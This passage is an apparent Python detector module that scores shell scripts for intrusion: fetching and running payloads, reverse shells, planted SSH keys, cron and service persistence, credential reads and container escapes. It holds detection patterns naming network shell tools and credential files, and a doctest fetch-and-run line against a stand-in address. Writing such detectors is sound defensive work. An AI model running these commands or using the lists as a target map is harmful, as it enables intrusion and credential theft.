"""Commands of somebody who breaks in and stays: fetch and run, reverse shells, planted keys, persistence, credentials."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any, Final

from pipeline.detectors import Finding
from pipeline.detectors._facts import Fact, Notes, Table, shown
from pipeline.kernels import facts as kernel
from pipeline.shell.calls import Call, Script
from pipeline.shell.fetches import FETCHERS, Fetch, fetch
from pipeline.shell.options import parse
from pipeline.shell.places import bare_address, base, hidden, inside, plain, scratch, system
from pipeline.shell.python_code import read_python
from pipeline.shell.writes import Write, said, writes

TITLE = "intrusion by commands"
LOOKS_FOR = (
    "Commands that fetch and run a program, open a reverse shell, plant keys, users, cron jobs or services, read "
    "credentials, leave the container, or do what intruders do first on a machine."
)
KIND = 2
STORY = "intrusion"
ATTACK = ("T1059.004", "T1105", "T1098.004", "T1053.003", "T1543.002", "T1552.001", "T1611", "T1082")

STATE = kernel.STATE
WHY = kernel.WHY
step = kernel.step

# Nats: log of the share of attack sessions (by cluster of like sessions) over the share of innocent command logs that
# show the fact, smoothed with one session each, shared among the facts that come together, and capped; development
# recordings of 2026 (honeypot sessions against coding agents, shell tasks and one-liners). Where no recording shows a
# fact, the figure is set beside the nearest one that has been measured. 5.3 alone is a score of 50, 6.2 one of 70.
TABLE = Table(
    looks=[
        Fact("cpu", 1.6, "asks which processors there are", "T1082", 0.3),
        Fact("memory", 0.6, "asks how much memory there is", "T1082"),
        Fact("kernel", 1.0, "asks for kernel and distribution", "T1082"),
        Fact("people", 2.0, "asks who is logged in", "T1033"),
        Fact("self", 0.5, "asks which user it is", "T1033", 0.5),
        Fact("processes", 0.5, "lists processes", "T1057", 0.4),
        Fact("network", 0.9, "lists network interfaces or sockets", "T1016"),
        Fact("hardware", 0.9, "lists devices", "T1082"),
        Fact("accounts", 1.0, "lists accounts or cron jobs", "T1087.001"),
        Fact("history", 1.2, "reads the shell's history", "T1552.003"),
        Fact("appliance", 2.2, "tries commands of routers and appliances", "T1082"),
        Fact("uptime", 0.4, "asks for uptime, disks or mounts", "T1082"),
    ],
    acts=[
        Fact("fetch_bare", 3.4, "fetches a file from a bare address", "T1105", 1.6),
        Fact("fetch_legacy", 3.4, "fetches a file by tftp, ftpget or scp's far side", "T1105", 2.0),
        Fact("fetch_named", 0.4, "fetches a program", "T1105", 0.2),
        Fact("executable", 0.7, "makes a file executable", "T1222.002", 0.4),
        Fact("run", 0.6, "runs a file of the working folder", "T1059.004"),
        Fact("run_scratch", 2.0, "runs a file from a scratch or hidden folder", "T1059.004", 2.0),
        Fact("fetch_run", 1.6, "runs what it fetched", "T1105", 0.8),
        Fact("pipe_run", 1.2, "runs text from the network as a program", "T1059.004", 0.8),
        Fact("rove", 4.4, "looks for any folder it can write to", "T1083"),
        Fact("tidy", 0.8, "deletes what it ran", "T1070.004", 0.8),
        Fact("plant", 3.4, "puts a program where programs lie", "T1543", 2.0),
        Fact("firewall", 4.4, "switches a firewall off", "T1562.004"),
        Fact("hold", 1.2, "arranges to stay: cron, services, profiles", "T1053.003", 0.4),
        Fact("account", 2.0, "makes or changes accounts", "T1136.001", 1.4),
        Fact("key", 5.8, "adds a key to authorized_keys", "T1098.004"),
        Fact("secrets", 2.8, "reads credentials", "T1552.001", 1.2),
        Fact("escape", 3.0, "reaches for the host outside its container", "T1611", 3.0),
        Fact("shell_out", 7.2, "gives a shell to another machine", "T1059.004"),
        Fact("probe", 2.4, "tests what kind of system it is in", "T1497.001", 1.0),
    ],
)


class Settings(kernel.FactSettings, frozen=True):
    """Weights as in TABLE."""

    nats: tuple[float, ...] = TABLE.nats
    looks_cap: float = 6.4
    looks_wear: float = 0.25
    acts_wear: float = 0.05
    chain_first: int = TABLE.bits("fetch_bare", "fetch_legacy", "plant")
    chain_weak: int = TABLE.bits("fetch_named")
    chain_then: int = TABLE.bits("executable")
    chain_last: int = TABLE.bits("run", "run_scratch", "fetch_run")
    chain_two: float = 2.2
    chain_three: float = 2.6


def explain(why: Any) -> str:
    """What came together, for people."""
    return shown(TABLE, why, "intrusion")


_SHELLS: Final = frozenset("sh bash dash ash zsh ksh busybox-sh fish rbash csh tcsh".split())
_INTERPRETERS: Final = _SHELLS | frozenset("python python2 python3 perl ruby php node lua pypy3 deno bun".split())
_PASSING: Final = frozenset("tee base64 gunzip zcat xz bzip2 sed tr cat rev openssl xxd awk head tail tac uudecode dos2unix".split())
_NET: Final = frozenset("nc ncat netcat nc.traditional nc.openbsd telnet socat openssl".split())


class _Scene:
    """What is known of one script while its calls are walked."""

    __slots__ = ("cds", "here", "executable", "fetched", "notes", "script", "written")

    def __init__(self, script: Script) -> None:
        self.script = script
        self.notes = Notes(TABLE)
        self.fetched: dict[str, Fetch] = {}
        self.written: list[Write] = writes(script)
        self.executable: set[str] = set()
        self.cds: set[str] = set()
        self.here = ""


def judge(script: Script) -> Finding | None:
    """What one command does of this.

    Example:
        >>> from pipeline.shell.script import read
        >>> round(judge(read("wget http://203.0.113.5/x.sh; sh x.sh")).weight, 1)
        5.4
        >>> judge(read("ls -l")) is None
        True
    """
    scene = _Scene(script)
    for at, call in enumerate(script.calls):
        for redirect in call.redirects:
            if redirect.target.startswith("/dev/tcp/") or redirect.target.startswith("/dev/udp/"):
                _socket_redirect(scene, call, redirect.target)
        reader = _BY_NAME.get(call.name)
        if reader is not None:
            reader(scene, at, call)
        elif call.name:
            _program(scene, at, call)
    for write in scene.written:
        _write(scene, write)
    for language, source in script.code:
        _code(scene, language, source)
    if len(scene.cds) >= 3 and any(scratch(place) for place in scene.cds):
        scene.notes.add("rove")
    return scene.notes.finding()


def _socket_redirect(scene: _Scene, call: Call, target: str) -> None:
    host, _, port = target[9:].partition("/")
    if call.name in _SHELLS:
        scene.notes.add("shell_out", words=f"gives a shell to {plain(host)} port {plain(port)}")
    elif call.name == "exec":
        scene.notes.add("probe", 3.0, "T1095", f"opens a socket to {plain(host)} in its shell")
    elif call.name == "cat" and any(r.target.startswith("/dev/tcp") and r.op == "<" for r in call.redirects):
        scene.notes.add("fetch_bare" if bare_address(host) else "fetch_named", words=f"reads from {plain(host)} by /dev/tcp")


# looking around


def _look(name: str, nats: float | None = None) -> Callable[[_Scene, int, Call], None]:
    def reader(scene: _Scene, at: int, call: Call) -> None:
        if not call.remote:
            scene.notes.add(name, nats)

    return reader


_FILES: Final = (
    (re.compile(r"/proc/cpuinfo|/sys/devices/system/cpu"), "cpu"),
    (re.compile(r"/proc/meminfo"), "memory"),
    (re.compile(r"/etc/(?:slackware|euleros|alpine|SuSE|oracle|enterprise|fedora|mandrake|gentoo|redhat)[-_](?:release|version)|/etc/slp\.reg|/etc/version$"), "appliance"),
    (re.compile(r"/proc/version|/etc/\S*(?:release|version)$|/etc/issue|/etc/\*release\*?"), "kernel"),
    (re.compile(r"/var/(?:run|log)/[uwb]tmp|/var/log/lastlog"), "people"),
    (re.compile(r"/etc/(?:passwd|group)$|/etc/crontab|/etc/cron\.|/var/spool/cron"), "accounts"),
    (re.compile(r"_history$|\.histfile$"), "history"),
    (re.compile(r"/proc/mounts|/etc/fstab|/proc/uptime"), "uptime"),
    (re.compile(r"/etc/hosts$|/proc/net/|/etc/resolv\.conf"), "network"),
    (re.compile(r"/tmp/(?:system|running)\.cfg|/etc/persistent|/etc/vmware/esx|/etc/config/|/mnt/mtd|/etc/asterisk"), "appliance"),
)
_SECRETS: Final = (
    (re.compile(r"/etc/g?shadow(?:-|$)"), 4.4, "T1003.008"),
    (re.compile(r"\.aws/credentials|\.kube/config|\.docker/config\.json|\.config/gcloud|\.azure/|\.git-credentials|\.netrc$|\.pgpass"), 3.4, "T1552.001"),
    (re.compile(r"kubernetes\.io/serviceaccount"), 3.8, "T1528"),
    (re.compile(r"\.ssh/(?:id_\w+|\*)$|(?:^|/)id_(?:rsa|dsa|ecdsa|ed25519)$|\.pem$|/etc/ssh/ssh_host_\w+_key$"), 2.8, "T1552.004"),
    (re.compile(r"^/proc/(?:\d+|\*|\[\S+\S*)/environ$"), 3.4, "T1552.007"),
    (re.compile(r"\.ssh/known_hosts"), 2.0, "T1018"),
    (re.compile(r"\.ssh/config$"), 1.2, "T1552.004"),
    (re.compile(r"logins\.json|Login Data|\.keyring|wallet\.dat|keystore/UTC"), 3.4, "T1555"),
)
_ARCHITECTURE: Final = frozenset("/bin/echo /bin/ls /bin/sh /bin/cat /bin/busybox /bin/bash /proc/self/exe /usr/bin/echo".split())


def _reads(scene: _Scene, at: int, call: Call) -> None:
    """cat, grep and their kin: what they read."""
    notes = scene.notes
    words = list(call.argv[1:])
    if call.name in ("grep", "egrep", "fgrep", "awk", "sed", "gawk", "zgrep", "rg"):
        words = parse(words, "efmABCFv").operands[1:]
    words.extend(r.target for r in call.redirects if r.op == "<")
    for word in words:
        if word[:1] == "-" or "/" not in word and "history" not in word and "id_" not in word and ".pem" not in word:
            continue
        if call.remote:
            continue
        for pattern, name in _FILES:
            if pattern.search(word):
                notes.add(name)
                break
        for pattern, nats, technique in _SECRETS:
            if pattern.search(word) and not word.endswith(".pub"):
                notes.add("secrets", nats, technique, f"reads {plain(word)}")
                break
        if word in _ARCHITECTURE or word == "/bin/*":
            notes.add("probe", 3.8, "T1082", f"reads the bytes of {plain(word)} to learn the architecture")
        if word.startswith("/proc/1/root/"):
            notes.add("escape", 5.0, "T1611", "reads the host's files through /proc/1/root")


def _cat(scene: _Scene, at: int, call: Call) -> None:
    _reads(scene, at, call)


def _dd(scene: _Scene, at: int, call: Call) -> None:
    for word in call.argv[1:]:
        if word.startswith("if=") and (word[3:] in _ARCHITECTURE or base(word[3:]).startswith(".s")):
            scene.notes.add("probe", 3.8, "T1082", "reads the first bytes of a program to learn the architecture")


def _id(scene: _Scene, at: int, call: Call) -> None:
    scene.notes.add("self")


def _systemctl(scene: _Scene, at: int, call: Call) -> None:
    operands = parse(call.argv[1:], "HMtpnos").operands
    if len(operands) < 2:
        return
    verb, units = operands[0], operands[1:]
    if verb in ("stop", "disable", "mask") and any(_FIREWALLS.search(unit) for unit in units):
        scene.notes.add("firewall")
    elif verb in ("enable", "link"):
        path = any("/" in unit for unit in units)
        scene.notes.add("hold", 2.4 if path and any(scratch(u) or hidden(u) for u in units) else None, "T1543.002")


_FIREWALLS: Final = re.compile(r"^(?:iptables|ip6tables|firewalld|ufw|nftables|SuSEfirewall2\w*|apparmor|reSuSEfirewall2)(?:\.service)?$")


def _service(scene: _Scene, at: int, call: Call) -> None:
    words = call.argv[1:]
    if len(words) >= 2 and words[1] in ("stop", "off") and _FIREWALLS.match(words[0]):
        scene.notes.add("firewall")


def _iptables(scene: _Scene, at: int, call: Call) -> None:
    if "/init.d/" in call.argv[0]:
        _service(scene, at, Call("service", ("service", call.name, *call.argv[1:])))
        return
    options = parse(call.argv[1:], "AIDPtjpsdio", {"flush", "policy"})
    if options.has("F", "flush", "X") or options.first("P") and call.argv[-1] == "ACCEPT":
        scene.notes.add("firewall", words="empties the firewall's rules")


def _firewall_off(scene: _Scene, at: int, call: Call) -> None:
    if any(word in ("stop", "disable", "off", "0", "Permissive") for word in call.argv[1:3]):
        scene.notes.add("firewall")


def _initd(scene: _Scene, at: int, call: Call) -> bool:
    if "/init.d/" in call.argv[0] and _FIREWALLS.match(call.name) and "stop" in call.argv[1:2]:
        scene.notes.add("firewall")
        return True
    return False


def _uname(scene: _Scene, at: int, call: Call) -> None:
    letters = set("".join(word[1:] for word in call.argv[1:] if word[:1] == "-" and word[:2] != "--"))
    if not call.remote:
        scene.notes.add("kernel", 1.6 if len(letters) >= 4 else None)


def _which(scene: _Scene, at: int, call: Call) -> None:
    if any(word in ("ls", "ps", "netstat", "top") for word in call.argv[1:]):
        scene.notes.add("probe", 1.6, "T1082", "checks whether basic programs are genuine")


# fetching and running


def _fetches(scene: _Scene, at: int, call: Call) -> None:
    notes = scene.notes
    for word in call.argv[1:]:
        if "169.254.16" in word or "169.254.17" in word or "metadata.google" in word or "100.100.100.200" in word:
            _metadata(scene, call)
            break
        if word.startswith("@") and any(p.search(word) for p, _, _ in _SECRETS):
            notes.add("secrets", 6.4, "T1041", "sends a file of credentials away")
    if call.name == "curl" and any("docker.sock" in word for word in call.argv):
        notes.add("escape", 5.4, "T1611", "talks to the container engine's socket")
    for found in fetch(call):
        host, path = found.source.host, found.source.path
        name = base(found.kept)
        if name:
            scene.fetched[name] = found
        if inside(host):
            continue
        if found.tool in ("tftp", "ftpget"):
            notes.add("fetch_legacy", words=f"fetches {plain(path)} from {plain(host)} by {found.tool}")
            if bare_address(host):
                notes.add("fetch_bare", words=f"fetches {plain(path)} from the bare address {plain(host)}")
        elif bare_address(host):
            if not found.kept and path in ("", "/"):
                continue
            notes.add("fetch_bare", None if found.kept else 1.6, words=f"fetches {plain(path)} from the bare address {plain(host)}")
        elif _DROPS.search(host):
            notes.add("fetch_named", 1.8, "T1105", f"fetches {plain(path)} from {plain(host)}")
        elif found.kept and (_PROGRAM.search(path) if found.source.scheme != "https" else _SCRIPT.search(path)):
            notes.add("fetch_named", 1.8 if found.source.scheme != "https" else 0.4, "T1105", f"fetches {plain(path)}")
        elif _ARCHIVE.search(path) and found.kept:
            notes.add("fetch_named", 0.9 if found.source.scheme != "https" else 0.2, "T1105", f"fetches {plain(path)}")


_ARCHIVE: Final = re.compile(r"\.(?:tgz|tar|tar\.\w+|zip|gz|bz2|xz|rar|7z|jpg|png|gif|txt|c)$")
_DROPS: Final = re.compile(
    r"(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|ix\.io|transfer\.sh|temp\.sh|0x0\.st|termbin\.com|rentry\.co|file\.io"
    r"|anonfiles\.com|cdn\.discordapp\.com|onion|tor2web\.\w+|ngrok(?:-free)?\.(?:io|app))$"
)
_ENDINGS: Final = r"\.(?:sh|pl|py|elf|bin|bash|run|x86|x86_64|i[3-6]86|mips|mpsl|mipsel|arm\w*|ppc|sh4|spc|m68k|arc)"
_SCRIPT: Final = re.compile(_ENDINGS + "$")
_PROGRAM: Final = re.compile(rf"(?:{_ENDINGS}|/[\w-]{{1,24}})$")


def _metadata(scene: _Scene, call: Call) -> None:
    text = " ".join(call.argv)
    if "security-credentials" in text or "/token" in text or "service-accounts" in text or "/iam" in text or "identity" in text:
        scene.notes.add("secrets", 6.4, "T1552.005", "asks the cloud's metadata service for credentials")
    else:
        scene.notes.add("secrets", 4.2, "T1552.005", "asks the cloud's metadata service")


def _scp(scene: _Scene, at: int, call: Call) -> None:
    options = parse(call.argv[1:], "cFiJloPSXD")
    if options.has("t") and options.operands:
        place = options.operands[-1]
        deep = system(place) or hidden(place)
        scene.notes.add("fetch_legacy", 3.8 if deep else 3.0, "T1105", f"takes a file in at {plain(place)} as scp's far side")
        scene.fetched[base(place)] = Fetch("scp", _NOWHERE, place)
    elif options.has("f"):
        scene.notes.add("fetch_legacy", 2.0, "T1041", "hands a file out as scp's far side")


_NOWHERE: Final = fetch(Call("ftpget", ("ftpget", "-", "-", "-")))[0].source


def _chmod(scene: _Scene, at: int, call: Call) -> None:
    operands = [word for word in call.argv[1:] if word[:1] != "-" or word.startswith("-x")]
    if not operands or call.remote:
        return
    mode, files = operands[0], operands[1:]
    octal = re.fullmatch(r"0?[0-7]{3,4}", mode)
    if not (octal and int(mode, 8) & 0o111 or "x" in mode or mode.lstrip("augo").startswith("+") and "x" in mode):
        return
    if call.loop or any(word.startswith("{") for word in files) or "-R" in call.argv:
        return
    for file in files:
        scene.executable.add(base(file))
        if scratch(file) or hidden(file):
            scene.notes.add("executable", 1.8, words=f"makes {plain(file)} executable")
        elif base(file) in scene.fetched:
            scene.notes.add("executable", 1.4, words=f"makes {plain(file)} executable, which it fetched")
        elif mode[-3:] == "777" and not file.startswith("/"):
            scene.notes.add("executable", 1.3, words=f"opens {plain(file)} to everybody")
        else:
            scene.notes.add("executable", 0.7 if mode.endswith("+x") or mode[-3:] in ("777", "755") else 0.4)


def _runs(scene: _Scene, call: Call, path: str) -> None:
    """The file `path` is run as a program."""
    if path.startswith("./") and scene.here and not scratch(path):
        path = scene.here + path[1:]
    name = base(path)
    found = scene.fetched.get(name) or (scene.fetched.get("*") if scene.fetched else None)
    notes = scene.notes
    if found is not None:
        host = found.source.host
        bare = bare_address(host) and not inside(host)
        notes.add("fetch_run", 2.6 if bare or found.tool in ("tftp", "ftpget", "scp") else 1.6 if found.source.scheme != "https" else 0.8,
                  words=f"runs {plain(name)}, which it fetched" + (f" from {plain(host)}" if host not in ("", "-") else ""))
    if scratch(path) or hidden(path):
        notes.add("run_scratch", 3.6 if hidden(path) else None, words=f"runs {plain(path)}")
    elif found is None and (path.startswith("./") or "/" not in path):
        notes.add("run", words=f"runs {plain(path)}")


def _shell(scene: _Scene, at: int, call: Call) -> None:
    """A shell or an interpreter: what feeds it, what file it runs."""
    notes = scene.notes
    source = call.pipe_in
    if source is None and at > 0 and any(word.startswith("<(") for word in call.argv[1:]):
        source = at - 1
    hops = 0
    while source is not None and 0 <= source < len(scene.script.calls) and hops < 8:
        feeder = scene.script.calls[source]
        if feeder.name in FETCHERS:
            _pipe_run(scene, feeder)
            break
        if feeder.name in _NET:
            notes.add("shell_out", words="runs what a network connection says")
            break
        if feeder.name not in _PASSING and feeder.name not in ("sudo", "timeout"):
            break
        source = feeder.pipe_in
        hops += 1
    if call.remote:
        return
    operands = parse(call.argv[1:], "cWmOeRSl" if call.name.startswith("py") else "coOeEIlMm").operands
    if "-c" in call.argv[1:] or "-e" in call.argv[1:] or "-m" in call.argv[1:]:
        return
    if operands:
        path = operands[0]
        ordinary = call.name not in _SHELLS and call.name != "perl" and base(path) not in scene.fetched
        if ordinary and not scratch(path) and not hidden(path):
            return
        _runs(scene, call, path)


def _pipe_run(scene: _Scene, feeder: Call) -> None:
    notes = scene.notes
    for found in fetch(feeder):
        host = found.source.host
        if inside(host):
            notes.add("pipe_run")
        elif bare_address(host):
            notes.add("pipe_run", 5.0, words=f"runs what the bare address {plain(host)} answers")
        elif _DROPS.search(host):
            notes.add("pipe_run", 3.8, words=f"runs what {plain(host)} answers")
        elif found.source.scheme == "https":
            notes.add("pipe_run", words=f"runs what {plain(host)} answers")
        else:
            notes.add("pipe_run", 2.4, words=f"runs what {plain(host)} answers, unencrypted")


def _program(scene: _Scene, at: int, call: Call) -> None:
    """A program that no reader knows."""
    path = call.argv[0]
    if _initd(scene, at, call):
        return
    if re.fullmatch(r"[CD]0[0-7]{3}", call.name) and len(call.argv) == 3 and call.argv[1].isdecimal():
        scene.notes.add("plant", 3.6, "T1105", "sends a program over scp's wire protocol")
        return
    if call.remote:
        return
    if "/" in path:
        if not _PATH.fullmatch(path):
            return
        if path.startswith("./") or scratch(path) or hidden(path):
            _runs(scene, call, path)
        elif base(path) in scene.fetched:
            _runs(scene, call, path)
    elif call.name in _APPLIANCE:
        scene.notes.add("appliance")
    elif call.name in ("get", "show", "set", "display", "configure") and len(scene.script.calls) == 1:
        if call.argv[1:2] in _ASKED:
            scene.notes.add("appliance")


_PATH: Final = re.compile(r"[\w.+@%:~ -]*/(?:[\w.+@%:~ -]+/)*[\w.+@%:~-]+")
_APPLIANCE: Final = frozenset(
    "enable shell linuxshell mca-status cfgmtd ubntbox get-tpm vmware esxcli tmsh cli /ip routeros hive-passwd syscfg nvram "
    "racadm bigip vtysh clish".split()
)

_ASKED: Final = tuple((word,) for word in ("system", "version", "interfaces", "interface", "running-config", "terminal", "ip", "users"))


def _enable(scene: _Scene, at: int, call: Call) -> None:
    if len(call.argv) == 1 and len(scene.script.calls) <= 2:
        fact = "appliance" if call.name == "enable" else "probe"
        scene.notes.add(fact, 2.2, words="types a device's command to get a shell")


def _busybox(scene: _Scene, at: int, call: Call) -> None:
    words = call.argv[1:]
    if not words:
        scene.notes.add("probe", words="tests for busybox")
        return
    if re.fullmatch(r"[A-Z][A-Z0-9]{3,12}", words[0]):
        scene.notes.add("probe", 5.6, "T1497.001", "asks busybox for an applet that does not exist, as bot loaders do")
        return
    if words[0] in FETCHERS:
        scene.notes.add("fetch_legacy", words="fetches a file by busybox")


def _cd(scene: _Scene, at: int, call: Call) -> None:
    if len(call.argv) > 1 and call.argv[1].startswith("/"):
        scene.here = call.argv[1].rstrip("/")
        scene.cds.add(scene.here or "/")


def _rm(scene: _Scene, at: int, call: Call) -> None:
    operands = [word for word in call.argv[1:] if word[:1] != "-"]
    for word in operands:
        name = base(word)
        if name in scene.fetched or name in scene.executable:
            scene.notes.add("tidy", 1.2, words=f"deletes {plain(name)}, which it fetched or ran")
        elif word in ("*", "*.sh", "bins.sh") or word.startswith(("/tmp/*", "/var/tmp/*")):
            scene.notes.add("tidy", words="deletes everything in the folder")
        elif word.rstrip("/").endswith("/.ssh") or word == ".ssh":
            scene.notes.add("account", 2.0, "T1098.004", "deletes the folder of ssh keys")


def _tar(scene: _Scene, at: int, call: Call) -> None:
    first = call.argv[1] if len(call.argv) > 1 else ""
    if "P" in first and "x" in first and call.pipe_in is None and call.stdin is None and "-" in call.argv[2:]:
        scene.notes.add("plant", 2.6, words="unpacks files typed in, to wherever they say")


# staying


def _write(scene: _Scene, write: Write) -> None:
    call = scene.script.calls[write.call]
    if call.remote:
        return
    path, text = write.path, write.text
    notes = scene.notes
    if text is not None and (text[:12].startswith(("\x7fELF", "\\x7fELF", "\\x7f\\x45", "x7fx45", "\\177ELF", "\\x7F\\x45"))):
        notes.add("plant", 5.6, "T1027", f"writes a program byte by byte to {plain(path)}")
    if path.endswith("authorized_keys") or path.endswith("authorized_keys2"):
        notes.add("key", words=f"adds a key to {plain(path)}")
    elif path.startswith(("/etc/cron", "/var/spool/cron")) or path.endswith("/crontab"):
        notes.add("hold", 5.6 if _suspicious(text) else 1.8, "T1053.003", f"writes {plain(path)}")
    elif path.endswith(("ld.so.preload",)):
        notes.add("hold", 6.8, "T1574.006", "preloads a library into every program")
    elif re.search(r"(?:/etc/systemd/system|/lib/systemd/system|systemd/user)/[^/]+\.(?:service|timer)$", path):
        notes.add("hold", 5.0 if _suspicious(text) else 2.0, "T1543.002", f"writes the service {plain(base(path))}")
    elif re.search(r"/etc/(?:rc\.local|rc\d?\.d/|init\.d/|inittab|profile(?:\.d/|$)|bash\.bashrc|rc\.d/)|(?:^|/)\.(?:bashrc|profile|bash_profile|zshrc|bash_login)$", path):
        login = path.endswith(("rc", "profile", "login"))
        nats = 4.6 if _suspicious(text) else 0.4 if login and not path.startswith("/etc/rc") else 2.6
        notes.add("hold", nats, "T1037.004" if "/etc/rc" in path or "init" in path else "T1546.004", f"writes {plain(path)}")
    elif path in ("/etc/passwd", "/etc/shadow") or path.startswith("/etc/sudoers"):
        notes.add("account", 3.2 if "sudoers" in path else 5.4, "T1098", f"writes {plain(path)}")
    elif path.endswith(("release_agent", "/core_pattern", "/uevent_helper", "/notify_on_release")):
        notes.add("escape", 3.0 if path.endswith("notify_on_release") else 6.8, "T1611", f"writes {plain(path)}")
    elif path == "/etc/hosts.deny" or path == "/etc/resolv.conf":
        notes.add("hold", 1.4, "T1565.001", f"writes {plain(path)}")
    elif write.typed and (scratch(path) or system(path) or hidden(path)):
        notes.add("plant", 3.4 if system(path) or hidden(path) else 2.0, "T1105", f"puts what is typed in into {plain(path)}")
        scene.fetched[base(path)] = Fetch("typed", _NOWHERE, path)
    elif call.name in ("cp", "mv", "install") and path.startswith(("/usr/bin/", "/bin/", "/usr/sbin/", "/sbin/", "/lib/", "/usr/lib/")):
        came = [w for w in call.argv[1:-1] if scratch(w) or hidden(w) or base(w) in scene.fetched]
        if came:
            notes.add("plant", words=f"puts {plain(came[0])} into {plain(path)}")


_SUSPICIOUS: Final = re.compile(r"\b(?:curl|wget|nc|ncat|bash -i|/dev/tcp|base64|python\d? -c|nohup)\b|/tmp/|/var/tmp|/dev/shm|/\.\w|\|\s*(?:ba)?sh\b")


def _suspicious(text: str | None) -> bool:
    return text is not None and _SUSPICIOUS.search(text) is not None


def _crontab(scene: _Scene, at: int, call: Call) -> None:
    options = parse(call.argv[1:], "u")
    if options.has("l"):
        scene.notes.add("accounts", words="lists cron jobs")
    elif options.has("r"):
        scene.notes.add("hold", 1.8, "T1053.003", "deletes the cron jobs")
    elif options.operands or call.stdin is not None or call.pipe_in is not None:
        text = call.stdin
        if text is None and call.pipe_in is not None:
            text = " ".join(said(c) or "" for c in scene.script.calls[max(0, at - 4) : at])
        scene.notes.add("hold", 5.8 if _suspicious(text) else None, "T1053.003", "installs cron jobs")


def _useradd(scene: _Scene, at: int, call: Call) -> None:
    options = parse(call.argv[1:], "ugGdscpk", {"uid", "gid", "groups"})
    if options.first("u", "uid") == "0" or options.has("o", "non-unique"):
        scene.notes.add("account", 6.4, "T1136.001", "makes a second root account")
    elif options.operands or options.values:
        scene.notes.add("account", words="makes an account")


def _su(scene: _Scene, at: int, call: Call) -> None:
    if len(call.argv) == 1 or call.argv[1:] in (("-",), ("root",), ("-", "root"), ("-l",)):
        scene.notes.add("self", 0.7, "T1548.003", "wants to be root")


def _passwd(scene: _Scene, at: int, call: Call) -> None:
    fed = call.pipe_in is not None or call.stdin is not None
    scene.notes.add("account", 4.4 if fed else 2.4, "T1098", "changes a password")


def _chpasswd(scene: _Scene, at: int, call: Call) -> None:
    scene.notes.add("account", 4.4, "T1098", "changes passwords")


def _usermod(scene: _Scene, at: int, call: Call) -> None:
    scene.notes.add("account")


def _chattr(scene: _Scene, at: int, call: Call) -> None:
    sensitive = any(re.search(r"\.ssh|authorized_keys|/etc/(?:passwd|shadow|cron|ld\.so)|crontab|/spool/cron|/usr/bin/|/bin/", word) for word in call.argv[1:])
    scene.notes.add("account", 4.4 if sensitive else 2.6, "T1222.002", "changes a file's immutable mark")


def _ssh_keygen(scene: _Scene, at: int, call: Call) -> None:
    return


def _chkconfig(scene: _Scene, at: int, call: Call) -> None:
    if any(word in ("--add", "on", "defaults", "enable", "add") for word in call.argv[1:]):
        scene.notes.add("hold", 2.0, "T1543.002", "adds a service")


def _kill(scene: _Scene, at: int, call: Call) -> None:
    text = " ".join(call.argv[1:])
    for other in scene.script.calls[max(0, at - 6) : at]:
        if other.name in ("pgrep", "grep", "pidof", "egrep"):
            text += " " + " ".join(other.argv[1:])
    if _RIVALS.search(text):
        scene.notes.add("probe", 4.4, "T1489", "ends other people's miners")
    elif text == "-9 -1":
        scene.notes.add("probe", 1.6, "T1489", "ends every process it can")


_RIVALS: Final = re.compile(r"xmrig|minerd|kinsing|kdevtmpfsi|kthreaddi|cryptonight|stratum|ddgs|watchbog|sysupdate|networkservice|xmr-stak|cnrig")


# credentials and the host outside


def _find(scene: _Scene, at: int, call: Call) -> None:
    words = call.argv[1:]
    text = " ".join(words)
    everywhere = any(w in ("/", "/home", "/root", "~", "/etc") for w in words[:2])
    if re.search(r"-perm\s+[-/]?(?:0?4000|u=s|6000|2000|g=s|\+4000)", text) and everywhere:
        scene.notes.add("probe", 2.0, "T1548.001", "looks for programs that run as root")
    if everywhere and re.search(r"-i?name \S*(?:id_rsa|id_dsa|id_ed25519|\.pem|\.aws|credentials|\.netrc|\.kube|\.npmrc|wallet|\.ppk|shadow)\b", text):
        scene.notes.add("secrets", 3.6, "T1552.001", "hunts the disk for credentials")


def _grep(scene: _Scene, at: int, call: Call) -> None:
    _reads(scene, at, call)
    if call.pipe_in is None:
        return
    feeder = scene.script.calls[call.pipe_in] if 0 <= call.pipe_in < len(scene.script.calls) else None
    if feeder is None:
        return
    operands = parse(call.argv[1:], "emABCf").operands or [""]
    for names, pattern, fact, nats in _PROFILES:
        if (feeder.name in names or feeder.name == "cat" and names[0] in feeder.argv) and re.search(pattern, operands[0]):
            scene.notes.add(fact, nats)
    if feeder.name in ("env", "printenv", "set") and re.search(r"(?i)key|token|secret|passw|cred|aws", operands[0]):
        scene.notes.add("secrets", words="looks for secrets in the environment")
    if feeder.name in ("ps", "pgrep") and re.search(r"(?i)\bminer|xmrig|\[Mm\]iner", operands[0]):
        scene.notes.add("probe", 4.0, "T1057", "looks for miners among the processes")


# Picking the names of processors and cards out, as programs do that report what a machine is good for.
_PROFILES: Final = (
    (("/proc/cpuinfo", "lscpu"), r"(?i)\b(?:name|model)\b", "cpu", 2.4),
    (("/proc/meminfo", "free"), r"\bMem", "memory", 1.3),
    (("lspci", "nvidia-smi"), r"(?i)vga|nvidia|product|attached|3d", "hardware", 2.0),
)


def _docker(scene: _Scene, at: int, call: Call) -> None:
    words = call.argv[1:]
    if not words or words[0] not in ("run", "exec", "create", "container"):
        return
    options = parse(words[1:], "vepwuhlmc", {"volume", "name", "env", "pid", "network", "net", "mount", "cap-add", "user", "entrypoint"})
    mounts = options.all("v", "volume")
    if any(m.startswith(("/:", "/etc:", "/root:", "/proc:")) for m in mounts) or any("source=/," in m or "src=/," in m for m in options.all("mount")):
        reads = all(m.endswith(":ro") for m in mounts if m.startswith("/"))
        scene.notes.add("escape", 3.4 if reads else 5.8, "T1611", "mounts the host's disk into a container")
    elif options.first("pid") == "host" and (options.has("privileged")):
        scene.notes.add("escape", 5.8, "T1611", "starts a privileged container among the host's processes")
    elif options.has("privileged") or options.first("cap-add").upper() in ("SYS_ADMIN", "ALL"):
        scene.notes.add("escape", words="starts a privileged container")
    elif any("docker.sock" in m for m in mounts):
        scene.notes.add("escape", words="hands the container engine's socket to a container")


def _nsenter(scene: _Scene, at: int, call: Call) -> None:
    options = parse(call.argv[1:], "tSGrw", {"target"})
    scene.notes.add("escape", 6.4 if options.first("t", "target") == "1" else 3.4, "T1611", "enters the host's namespaces")


def _chroot(scene: _Scene, at: int, call: Call) -> None:
    place = next((w for w in call.argv[1:] if w[:1] != "-"), "")
    if re.match(r"/(?:host|hostfs|mnt/host|rootfs|proc/1/root)\b", place):
        scene.notes.add("escape", 6.4, "T1611", f"makes {plain(place)} its root")


def _mount(scene: _Scene, at: int, call: Call) -> None:
